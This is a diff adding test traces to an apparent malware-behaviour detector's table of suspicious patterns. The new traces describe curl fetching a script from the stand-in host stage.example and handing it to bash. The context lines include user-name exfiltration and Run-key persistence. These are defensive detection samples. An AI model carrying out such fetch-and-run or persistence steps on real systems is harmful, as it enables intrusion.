@@ -77,6 +77,15 @@ const SUSPICIOUS: Readonly<Record<string, readonly Partial<Trace>[]>> = {
     ...goesByCommand,
   ],
   'nothing else goes before it': [here, ...goesByCommand],
+  'what a command fetched goes to a shell and lies nowhere': [
+    runs('curl -s http://stage.example/next.sh', { pid: 321, parentPid: 320 }),
+    runs('bash', { pid: 322, parentPid: 320 }),
+    gets('http://stage.example/next.sh'),
+  ],
+  'what was fetched is kept nowhere, and something else is started': [
+    gets('http://stage.example/next.sh'),
+    runs('bash', { pid: 322, parentPid: 320 }),
+  ],
   'who is there is posted': [system(asked('user', 'GetUserNameA')), posts('ann')],
   'a copy elsewhere starts at logon': [here, sets(RUN, 'W', 'C:\\Users\\u\\AppData\\Roaming\\w.exe')],
   'what starts at logon hides': [
